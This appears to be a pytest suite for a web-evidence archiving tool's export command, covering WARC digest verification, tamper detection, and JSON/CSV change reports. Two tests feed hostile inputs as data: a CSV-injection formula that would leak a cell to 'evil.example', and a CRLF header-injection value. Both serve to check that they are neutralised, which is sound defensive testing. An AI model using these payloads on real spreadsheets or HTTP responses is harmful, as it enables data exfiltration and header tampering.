"""`casewatch export` (evidence): standard WARC files that warcio reads and verifies, and the
change log as JSON or CSV for reports; on SQLite and PostgreSQL, against a page served on 127.0.0.1."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import subprocess
import sys
import zlib
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select, update
from warcio.archiveiterator import ArchiveIterator

from casewatch.export import http_response_headers
from pipeline.store.bodies import raw_bytes
from pipeline.store.models import Change, Version
from tests.casewatch.evidence_site import EDIT, Watched, page
from tests.support.contract import CHANGE_FIELDS
from tests.support.httpserver import LocalHTTPServer

pytestmark = pytest.mark.postgres  # storage: raw bodies (BLOB and bytea) exported byte for byte

WARCIO = str(Path(sys.executable).with_name("warcio"))


def _versions(w: Watched) -> list[Version]:
    with w.db.read() as s:
        return list(s.scalars(select(Version).order_by(Version.id)))


def _bodies(w: Watched) -> list[bytes | None]:
    """Each version's raw body as the store gives it back (None: pruned), oldest first."""
    with w.db.read() as s:
        return [raw_bytes(v) for v in s.scalars(select(Version).order_by(Version.id))]


def _records(path: Path) -> list[tuple[str, dict[str, str], bytes, Any]]:
    """(type, WARC headers, content as a reader gets it, HTTP headers) of every record, digests checked."""
    out = []
    with path.open("rb") as fh:
        for record in ArchiveIterator(fh, check_digests="raise"):
            content = record.content_stream().read()
            out.append((record.rec_type, dict(record.rec_headers.headers), content, record.http_headers))
    return out


def _crawled_twice(tmp_path: Path, db_url: str, server: LocalHTTPServer) -> Watched:
    w = Watched(tmp_path, db_url, server)
    w.serve(page(10), gzipped=True, etag='"v1"')
    w.crawl()
    w.serve(page(10, edited=True), gzipped=True, etag='"v2"')
    w.crawl()
    return w


@pytest.mark.slow
def test_warc_export_is_verified_by_warcio_and_holds_the_stored_bytes(db_url: str, tmp_path: Path) -> None:
    with LocalHTTPServer() as server:
        w = _crawled_twice(tmp_path, db_url, server)
    versions, bodies = _versions(w), _bodies(w)
    assert len(versions) == 2 and all(body is not None for body in bodies)
    with w.db.read() as s:
        changes = {c.kind: c.id for c in s.scalars(select(Change))}
    assert set(changes) == {"new", "updated"}
    # Served gzipped: Scrapy inflated the body and dropped Content-Encoding, but the stored
    # Content-Length is still the compressed one.
    stored_length = int(versions[0].headers["Content-Length"])
    assert bodies[0] is not None and bodies[0].startswith(b"<!doctype html>")
    assert stored_length != len(bodies[0])

    out = tmp_path / "evidence.warc.gz"
    done = w.run("export", "--format", "warc", "--document", str(versions[0].document_id), "-o", str(out))
    assert done.stdout == "" and "2 version(s)" in done.stderr

    records = _records(out)
    assert [r[0] for r in records] == ["warcinfo"] + ["request", "response", "metadata"] * 2
    responses = [r for r in records if r[0] == "response"]
    for version, stored, (_, headers, content, http) in zip(versions, bodies, responses, strict=True):
        assert stored is not None
        assert content == stored  # exactly the stored bytes: nothing gunzipped twice, nothing lost
        assert hashlib.sha256(content).hexdigest() == version.raw_sha256
        assert headers["WARC-Payload-Digest"] == f"sha256:{version.raw_sha256}"
        assert headers["WARC-Target-URI"] == version.fetched_url == w.url
        assert headers["WARC-Date"] == version.fetched_at.strftime("%Y-%m-%dT%H:%M:%SZ")
        assert http.get_statuscode() == "200"
        assert http.get_header("Content-Length") == str(len(stored))
        assert http.get_header("X-Casewatch-Original-Content-Length") == version.headers["Content-Length"]
        assert http.get_header("ETag") == version.etag
    assert EDIT.encode() in responses[1][2] and EDIT.encode() not in responses[0][2]

    # Each request and metadata record points at its response; the metadata names the casewatch ids.
    by_id = {h["WARC-Record-ID"]: (kind, h) for kind, h, _, _ in records}
    metas = [json.loads(content) for kind, _, content, _ in records if kind == "metadata"]
    for kind, headers, _, _ in records:
        if kind in ("request", "metadata"):
            assert by_id[headers["WARC-Concurrent-To"]][0] == "response"
    assert [m["version_id"] for m in metas] == [v.id for v in versions]
    assert [m["raw_sha256"] for m in metas] == [v.raw_sha256 for v in versions]
    assert [m["text_sha256"] for m in metas] == [v.sha256 for v in versions]
    assert metas[0]["change_ids"] == [changes["new"], changes["updated"]]
    assert metas[1]["change_ids"] == [changes["updated"]]
    assert metas[0]["document_url"] == w.url and metas[0]["raw_body"] == "included"

    # The standard command-line tools agree.
    check = subprocess.run([WARCIO, "check", "-v", str(out)], capture_output=True, text=True, check=False)
    assert check.returncode == 0, check.stdout + check.stderr
    assert check.stdout.count("digest pass") == len(records)  # every record carries a digest that passes
    assert "fail" not in check.stdout
    index = subprocess.run([WARCIO, "index", "-f", "warc-type,warc-target-uri,http:status", str(out)],
                           capture_output=True, text=True, check=True)
    lines = [json.loads(line) for line in index.stdout.splitlines()]
    assert [x for x in lines if x["warc-type"] == "response"] == [
        {"warc-type": "response", "warc-target-uri": w.url, "http:status": "200"}] * 2


def test_transfer_headers_of_a_decoded_body_are_renamed() -> None:
    """Stored headers that describe the transfer (gzip, chunked) would make a WARC reader decode the
    stored plain body again: they are kept under another name, and Content-Length fits the body."""
    version = Version(http_status=200, content_type="text/html", headers={
        "Content-Type": "text/html", "Content-Encoding": "gzip", "Transfer-Encoding": "chunked",
        "Content-Length": "99", "ETag": '"x"', "X-Injected": "a\r\nSet-Cookie: b"})
    http = http_response_headers(version, 1234)
    assert http.protocol == "HTTP/1.1" and http.statusline == "200 OK"
    assert http.get_header("Content-Encoding") is None and http.get_header("Transfer-Encoding") is None
    assert http.get_header("X-Casewatch-Original-Content-Encoding") == "gzip"
    assert http.get_header("X-Casewatch-Original-Transfer-Encoding") == "chunked"
    assert http.get_header("X-Casewatch-Original-Content-Length") == "99"
    assert http.get_header("Content-Length") == "1234" and http.get_header("ETag") == '"x"'
    assert http.get_header("Set-Cookie") is None and http.get_header("X-Injected") == "a Set-Cookie: b"


@pytest.mark.slow
def test_a_tampered_body_fails_warcio_check(tmp_path: Path) -> None:
    """The payload digest is the stored hash, not one recomputed at export: altered evidence shows."""
    db_url = f"sqlite:///{tmp_path / 'casewatch.db'}"
    with LocalHTTPServer() as server:
        w = Watched(tmp_path, db_url, server)
        w.serve(page(10))
        w.crawl()
    with w.db.write() as s:
        s.execute(update(Version).values(raw_body=zlib.compress(page(11))))
    out = tmp_path / "tampered.warc.gz"
    w.run("export", "-o", str(out))
    check = subprocess.run([WARCIO, "check", str(out)], capture_output=True, text=True, check=False)
    assert check.returncode == 1 and "payload digest failed" in check.stdout


@pytest.mark.slow
def test_warc_date_range_default_path_and_pruned_versions(db_url: str, tmp_path: Path) -> None:
    with LocalHTTPServer() as server:
        w = _crawled_twice(tmp_path, db_url, server)
    first, second = _versions(w)
    first_body, second_body = _bodies(w)
    between = first.fetched_at + (second.fetched_at - first.fetched_at) / 2

    # Without -o: a file under var/exports/, named on stderr. --until excludes the second fetch.
    done = w.run("export", "--since", "1d", "--until", between.isoformat())
    path = Path(done.stderr.split(":")[0])
    assert path.parent == tmp_path / "var" / "exports" and path.name.endswith(".warc.gz"), done.stderr
    responses = [r for r in _records(path) if r[0] == "response"]
    assert [r[2] for r in responses] == [first_body]
    later = tmp_path / "later.warc.gz"
    w.run("export", "--since", between.isoformat(), "-o", str(later))
    assert [r[2] for r in _records(later) if r[0] == "response"] == [second_body]
    tomorrow = (second.fetched_at + timedelta(days=2)).date().isoformat()
    none = tmp_path / "none.warc.gz"
    w.run("export", "--since", tomorrow, "-o", str(none))
    assert [r[0] for r in _records(none)] == ["warcinfo"]

    # A pruned body: only the metadata record, which says so and keeps the hash.
    with w.db.write() as s:
        s.execute(update(Version).where(Version.id == first.id).values(raw_body=b"", raw_pruned_at=second.fetched_at))
    pruned = tmp_path / "pruned.warc.gz"
    assert "1 pruned" in w.run("export", "--url", w.url, "-o", str(pruned)).stderr
    records = _records(pruned)
    assert [r[0] for r in records] == ["warcinfo", "metadata", "request", "response", "metadata"]
    meta = json.loads(records[1][2])
    assert meta["raw_body"] == "pruned" and meta["raw_sha256"] == first.raw_sha256 and "WARC-Concurrent-To" not in \
        records[1][1]


@pytest.mark.slow
def test_json_and_csv_reports(db_url: str, tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Juliaca")'
    with LocalHTTPServer() as server:
        w = Watched(tmp_path, db_url, server)
        w.serve(page(10, title=hostile))
        w.crawl()
        w.serve(page(10, edited=True, title="@SUM(1+1) masacre de Juliaca"))
        w.crawl()
    logged = w.changes()
    versions = _versions(w)

    rows = json.loads(w.run("export", "--format", "json").stdout)
    assert [r["id"] for r in rows] == sorted(c["id"] for c in logged)
    by_id = {c["id"]: c for c in logged}
    for row in rows:
        assert CHANGE_FIELDS <= set(row)
        assert {k: row[k] for k in CHANGE_FIELDS} == by_id[row["id"]]
    new, updated = rows
    assert new["from_version_id"] is None and new["to_version_sha256"] == versions[0].sha256
    assert updated["from_raw_sha256"] == versions[0].raw_sha256 and updated["to_raw_sha256"] == versions[1].raw_sha256
    assert updated["to_fetched_at"] == versions[1].fetched_at.isoformat()
    only_new = json.loads(w.run("export", "--format", "json", "--until",
                                versions[1].fetched_at.isoformat()).stdout)
    assert [r["id"] for r in only_new] == [new["id"]]

    out = tmp_path / "report.csv"
    done = w.run("export", "--format", "csv", "--source", "fiscalia", "--case", "juliaca-2023", "-o", str(out))
    assert done.stdout == "" and "2 change(s)" in done.stderr
    table = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [r["id"] for r in table] == [str(new["id"]), str(updated["id"])]
    # Scraped titles cannot become spreadsheet formulas; nothing else is altered.
    assert table[0]["title"] == "'" + hostile
    assert table[1]["title"] == "'@SUM(1+1) masacre de Juliaca"
    assert table[1]["diff"].startswith("'--- version")
    assert table[1]["cases"] == "juliaca-2023" and table[1]["to_raw_sha256"] == versions[1].raw_sha256
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in table for cell in r.values() if cell)


@pytest.mark.slow
def test_export_user_errors_are_one_line(tmp_path: Path) -> None:
    db_url = f"sqlite:///{tmp_path / 'casewatch.db'}"
    with LocalHTTPServer() as server:
        w = Watched(tmp_path, db_url, server)
    for args, message in [(("--source", "nope"), "unknown source 'nope'"),
                          (("--case", "nope"), "unknown case 'nope'"),
                          (("--document", "999"), "no stored document with id 999"),
                          (("--url", "http://127.0.0.1:9/x"), "no stored document with URL"),
                          (("--document", "1", "--url", "http://127.0.0.1:9/x"), "either --document or --url")]:
        done = w.run("export", *args, ok=False)
        assert done.returncode == 1, (args, done.stderr)
        assert message in done.stderr and len(done.stderr.strip().splitlines()) == 1, done.stderr
    # A bad date is a usage error, as for `casewatch changes --since`.
    done = w.run("export", "--format", "csv", "--since", "yesterday", ok=False)
    assert done.returncode == 1 and "expected 7d" in done.stderr and "Traceback" not in done.stderr
